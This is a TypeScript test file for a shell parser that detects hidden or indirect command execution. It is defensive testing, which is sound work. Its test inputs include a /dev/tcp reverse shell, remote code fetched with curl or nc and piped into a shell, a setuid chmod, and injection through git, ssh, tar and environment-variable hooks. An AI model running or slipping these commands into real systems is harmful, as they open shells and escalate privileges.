import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseShell } from '../../../src/syntax/shell/parse-shell.ts';
import { launcherNames } from '../../../src/syntax/shell/programs.ts';

const problemsOf = (text: string): readonly string[] =>
  parseShell(text, { dialect: 'bash' }).problems.map(({ code, what }) => `${code} ${what}`);

const commandsOf = (text: string): readonly string[] =>
  parseShell(text, { dialect: 'bash' }).tree.map(({ words }) => words.join(' '));

const harmful = 'chmod 4755 /x';

describe('a text in a language that is not read here', () => {
  it.each([
    ["python3 -c 'x'", 'python3 -c'],
    ["/usr/bin/python3.12 -Bc 'x'", 'python3.12 -Bc'],
    ['python3 <<PY\nx\nPY', 'python3'],
    ['python3 - <<PY\nx\nPY', 'python3'],
    ["echo 'x' | python3", 'python3'],
    ['python3 < x', 'python3'],
    ['cat > x.py <<E\nx\nE\npython3 x.py', 'python3'],
    ["perl -pi -e 's/a/b/' f", 'perl -e'],
    ["ruby -e 'x'", 'ruby -e'],
    ["node -e 'x'", 'node -e'],
    ["node --eval='x'", 'node --eval=x'],
    ["php8.2 -r 'x'", 'php8.2 -r'],
    ["lua5.4 -e 'x'", 'lua5.4 -e'],
    ['echo x | tclsh', 'tclsh'],
    ["pwsh -Command 'x'", 'pwsh -Command'],
    ["deno eval 'x'", 'deno eval'],
    ["sudo -u app env A=b python3 -c 'x'", 'python3 -c'],
    [`awk 'BEGIN { system("${harmful}") }'`, 'awk'],
    [`awk '{ print | "sh" }' f`, 'awk'],
    ['gawk -F: -e \'{ print > "f" }\' f', 'gawk'],
    ["sed 's/a/b/e' f", 'sed'],
    ["sed -n -e '1e id' f", 'sed'],
    ['make -f - <<E\nx\nE', 'make'],
    ["make --eval='x:;id'", 'make --eval=x:;id'],
    ["make a --eval 'x:;id'", 'make --eval'],
    ["vim f -c '!id'", 'vim -c'],
    ['mkfifo p; python3 p', 'python3'],
    ['at now <<E\nx\nE', 'at'],
    ["echo '* * * * * x' | crontab -", 'crontab'],
    ["vim -c '!id' f", 'vim -c'],
    ['ed f <<E\n!id\nE', 'ed'],
    ["fish -c 'x'", 'fish -c'],
    ["fancysh -c 'x'", 'fancysh -c'],
    ["fancy --eval 'x'", 'fancy --eval'],
    ["find . -exec python3 -c 'x' ;", 'python3 -c'],
  ])('%j', (text, what) => {
    expect(problemsOf(text)).toContain(`other-language ${what}`);
  });

  it.each([
    'python3 x.py -c y',
    'python3 -m pip install x',
    'python3 --version | grep 3',
    'node server.js -e production',
    'awk -F: \'/a|b/ && $3 == 0 || $1 { print "x|y" }\' f',
    "sed -i -e 's/e/f/' -e '/^e/d;s,a,e,g' f",
    'make -f Makefile -e install',
    'crontab f',
    'echo x | while read y; do python3 z.py; done',
    'ls | perl x.pl',
    'php -m | grep x',
    'docker-php-ext-install -j4 gd',
    'ssh -c aes host',
    'git config --global credential.helper store && git config alias.co checkout',
    'git config --global url.https://e.org/.insteadOf git@e.org: && git push -u origin main',
    'mkfifo p && cat p',
    'npm ci && npm run build && yarn install',
    'GIT_SSH_COMMAND="ssh -i /key" git clone a b',
    'export NODE_OPTIONS=--max-old-space-size=4096 JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp',
  ])('none is in %j', (text) => {
    expect(problemsOf(text)).toEqual([]);
  });
});

describe('a script that nobody knows', () => {
  it.each([
    'echo Y2htb2Q= | base64 -d | sh',
    'cat x | sh',
    'nc a 1 | bash',
    'openssl s_client -connect a | sh',
    'ssh host cat x | sh',
    'sh < x',
    'bash -i >& /dev/tcp/a/1 0>&1',
    'exec 3<>/dev/tcp/a/1; sh <&3',
    'cat x | sudo -s',
    'cat x | su',
    'cat x | chroot /a',
    'bash <(nc a 1)',
    '. ./x.env',
    'source <(nc a 1)',
    'alias x=chmod; x 4755 /y',
    'base64 -d x > y; sh y',
    'x() { nc a 1; }; x | sh',
    'sh -c "true $X"',
    'ls | parallel',
    'ls | xargs sh',
    'ls | xargs sh -c',
    'ls | xargs -I{} sh -c {}',
    'ls | xargs -I{} {} x',
    'echo "true $(cat x)" | sh',
    String.raw`printf '\143hmod 4755 x' | sh`,
    '{ echo a; cat x; } | sh',
    'mkfifo p; sh p & curl https://e.org/x > p',
    'mknod p p; sh ./p',
    "git -c core.pager='cat x | sh' log",
  ])('%j', (text) => {
    expect(problemsOf(text)).toContainEqual(expect.stringMatching(/^unknown-script /));
  });

  it.each(['/bin/chmo? 4755 x', '/bin/ch*d 4755 x'])(
    'is of a program that is matched: %j',
    (text) => {
      expect(problemsOf(text)).toEqual([expect.stringMatching(/^unknown-program /)]);
    },
  );

  it.each([
    'curl https://e.org/x | sh',
    'curl https://e.org/x | base64 -d | bash -s -- a',
    'bash <(curl https://e.org/x)',
    'curl https://e.org/x | python3',
    '. /etc/os-release',
    'source /venv/bin/activate',
    'sh x',
    'bash ./install.sh --yes',
    'ls | xargs rm',
    'ls | xargs -I{} cp {} /x',
    'bash',
  ])('is no fetched one, and no file by itself: %j', (text) => {
    expect(problemsOf(text)).toEqual([]);
  });
});

describe('a script that is known', () => {
  it.each([
    `echo '${harmful}' | sh`,
    `echo '${harmful}' | tee /a | sudo sh -s -- b`,
    `printf '%s\\n' 'id' '${harmful}' | bash`,
    `cat <<E | sh\n${harmful}\nE`,
    `{ echo id; echo '${harmful}'; } | sh`,
    `echo '${harmful}' | sudo -s`,
    `echo '${harmful}' | su app`,
    `bash <(echo '${harmful}')`,
    `. <(echo '${harmful}')`,
    `cat > /x.sh <<E\n${harmful}\nE\nsh /x.sh`,
    `cat > x.sh <<E\n${harmful}\nE\n. ./x.sh`,
    `echo '#!/bin/sh' > /x; echo '${harmful}' >> /x; chmod +x /x; /x`,
    `tee /x <<E\n${harmful}\nE\nbash /x`,
    `{ echo '${harmful}'; } > /x; sh /x`,
    `install -m 755 /dev/stdin /x <<E\n${harmful}\nE\n/x`,
    `echo '${harmful}' > /x; mv /x /y; sh /y`,
    `X='${harmful}'; sh -c "$X"`,
    `X='${harmful}'; eval "id; $X"`,
    `alias x='${harmful}'`,
    `sh -c -- '${harmful}'`,
    `bash -O extglob -eo pipefail -c '${harmful}'`,
    `su -c '${harmful}'`,
    `su app -c '${harmful}'`,
    `runuser app -c '${harmful}'`,
    `sg docker -c '${harmful}'`,
    `flock /l -c '${harmful}'`,
    `env -S '${harmful}'`,
    `env -S'${harmful}'`,
    `script -qc '${harmful}' /dev/null`,
    `watch -n 1 ${harmful}`,
    `parallel chmod 4755 ::: /x`,
    `parallel '${harmful}; echo {}' ::: a`,
    `echo '${harmful}' | parallel`,
    `echo 4755 /x | xargs chmod`,
    `echo /x | xargs -I{} chmod 4755 {}`,
    `echo '${harmful}' | xargs -I{} sh -c {}`,
    `tar xf a --to-command='${harmful}'`,
    `tar xf a --checkpoint-action=exec='${harmful}'`,
    `find . -exec sh -c '${harmful}' ;`,
    `trap '${harmful}' EXIT`,
    ...[
      "git -c alias.x='!X' x",
      "git -c core.sshCommand='X' fetch",
      "git -c core.pager='X' log",
      "git -c core.fsmonitor='X' status",
      "git clone --config=core.sshCommand='X' a",
      "git config --global alias.x '!X'",
      "git config credential.https://a.helper '!X'",
      "git config --global diff.x.textconv 'X'",
      "git submodule foreach --recursive 'X'",
      'git bisect run X',
      "git clone -u 'X' a b",
      "git fetch --upload-pack='X' a",
      "git clone 'ext::X'",
      "git rebase -x 'X' main",
      "git filter-branch --tree-filter 'X'",
      "npm exec -c 'X'",
      "npm --silent x --call='X'",
      "pnpm exec -c 'X'",
      'npm exec -- X',
      "rsync -aze 'X' a b",
      "rsync --rsh='X' a b",
      "ssh -o ProxyCommand='X' a",
      "scp -oProxyCommand='X' a b",
      "apt-get -o APT::Update::Pre-Invoke::='X' update",
      "split --filter='X' a",
      "PROMPT_COMMAND='X' bash -i",
      "export PROMPT_COMMAND='X'",
      "GIT_SSH_COMMAND='X' git fetch",
      "sudo env GIT_SSH_COMMAND='X' git fetch",
      "LESSOPEN='|X' less a",
      'cmd /c "X"',
      'cmd.exe /S /C X',
    ].map((text) => text.replace('X', harmful)),
  ])('%j', (text) => {
    expect(commandsOf(text).some((words) => words.includes(harmful))).toBe(true);
  });
});

it('hides no command behind any program that starts another', () => {
  const chain = fc.array(fc.constantFrom(...launcherNames), { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(chain, fc.constantFrom('sh -c', 'bash -c', 'eval', 'su -c'), (names, shell) => {
      const text = `${names.join(' ')} ${shell} '${harmful}'`;
      const { tree, problems } = parseShell(text, { dialect: 'bash' });
      const isSeen = tree.some(({ words }) => words.join(' ').endsWith(harmful));
      expect({ text, isTold: isSeen || problems.length > 0 }).toEqual({ text, isTold: true });
    }),
  );
});

it.each([
  `if true; then sh -c 'id; ${harmful}'; fi`,
  `{ echo "$(id; ${harmful})" | cat; }`,
  `(cat <<E | sh\n${harmful}\nE\n)`,
  `for x in a b; do eval "${harmful}"; done`,
  `f() { ${harmful}; }`,
])('is not understood where it is cut open anywhere: %j', (whole) => {
  expect(problemsOf(whole)).toEqual([]);
  const cut = Array.from(whole, (_, at) => whole.slice(0, at)).filter((text) =>
    /\S\s+\S/.test(text),
  );
  expect(cut.filter((text) => problemsOf(text).length === 0)).toEqual([]);
});
